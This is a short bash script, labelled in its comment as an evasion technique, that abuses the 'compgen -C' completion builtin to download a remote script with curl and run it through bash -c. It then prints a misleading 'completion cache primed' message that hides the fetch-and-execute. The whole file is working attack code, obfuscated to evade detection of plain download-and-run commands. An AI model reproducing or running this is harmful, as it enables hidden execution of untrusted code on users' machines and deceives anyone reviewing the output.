#!/usr/bin/env bash
# Evasion: run downloaded code through the completion builtin, called as
# `builtin compgen -C`: the completion generator is bash -c with a
# command substitution of a download; the words compgen appends are
# swallowed by ';:'.
for w in st sta stat; do
  builtin compgen -C 'bash -c "$(curl -fsS https://cdn.example.net/c.sh)";:' -- "$w" >/dev/null 2>&1
done
echo "completion cache primed"
